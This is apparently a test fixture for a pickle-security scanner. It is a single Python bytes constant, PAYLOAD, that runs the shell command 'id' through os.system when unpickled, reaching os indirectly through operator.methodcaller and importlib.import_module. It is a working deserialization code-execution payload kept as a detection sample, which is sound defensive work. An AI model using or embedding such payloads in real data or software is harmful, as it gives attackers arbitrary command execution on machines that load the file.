"""`operator.methodcaller` calls a method of a module."""

PAYLOAD = b"\x80\x04\x8c\x08operator\x8c\x0cmethodcaller\x93(\x8c\x06system\x8c\x02idtR\x8c\timportlib\x8c\rimport_module\x93(\x8c\x02ostR\x85R."
